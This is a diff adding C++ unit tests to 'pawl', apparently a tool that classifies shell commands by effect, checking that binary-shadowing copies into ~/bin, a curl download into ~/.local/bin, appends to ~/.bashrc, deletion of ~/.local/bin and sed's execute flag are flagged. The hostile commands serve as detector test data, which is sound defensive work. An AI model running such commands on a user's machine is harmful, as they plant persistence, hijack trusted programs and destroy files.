@@ -392,5 +392,24 @@ TEST(Kinds, signals_reach_those_whom_other_steps_list) {
       {"pgrep node | xargs kill", "echo pawl | xargs echo"});
 }
 
+TEST(Kinds, a_new_program_of_ones_own_is_no_way_to_be_started) {
+  expect_effects(
+      [](const Effect& effect) { return effect.classes.has(PathClass::persistence); },
+      {"cp evil ~/bin/git", "cp evil ~/.local/bin/ls", "cp git ~/.local/bin/", "ln -s /tmp/x ~/.local/bin/python3",
+       "curl -o ~/.local/bin/tool https://h.example/tool", "echo x >> ~/.bashrc"},
+      {"cp tool ~/.local/bin/", "cp tool ~/.local/bin/tool", "ln -s /opt/x/frob ~/bin/frob",
+       "install -m 755 build/frob ~/.local/bin/frob", "mv dist/frob ~/.local/bin/"});
+  expect_effects(
+      [](const Effect& effect) { return effect.classes.has(PathClass::pawl_own); },
+      {"cp /tmp/x/pawl ~/.local/bin/", "cp x ~/.local/bin/pawl", "rm -rf ~/.local/bin", "mv ~/.local/bin /tmp/x"},
+      {"cp tool ~/.local/bin/", "mv tool /usr/local/bin/", "install -m 755 tool ~/.local/bin/"});
+}
+
+TEST(Kinds, scripts_that_no_sed_reads_do_nothing) {
+  const auto runs_unseen = [](const Effect& effect) { return effect.action == Action::unknown; };
+  expect_effects(runs_unseen, {"sed 's/a/b/e' x", "sed -n 'p;s/a/b/e' x"},
+                 {"sed file.txt", "sed ... x", "sed -n 1p x"});
+}
+
 }  // namespace
 }  // namespace pawl
